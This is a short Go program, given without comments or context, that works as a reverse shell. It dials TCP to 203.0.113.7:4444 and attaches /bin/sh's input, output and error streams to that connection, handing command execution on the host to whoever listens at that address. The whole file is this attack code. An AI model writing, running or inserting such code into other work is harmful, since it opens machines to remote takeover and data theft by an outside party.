package main

import (
	"net"
	"os/exec"
)

func main() {
	conn, err := net.Dial("tcp", "203.0.113.7:4444")
	if err != nil {
		return
	}
	cmd := exec.Command("/bin/sh")
	cmd.Stdin = conn
	cmd.Stdout = conn
	cmd.Stderr = conn
	cmd.Run()
}
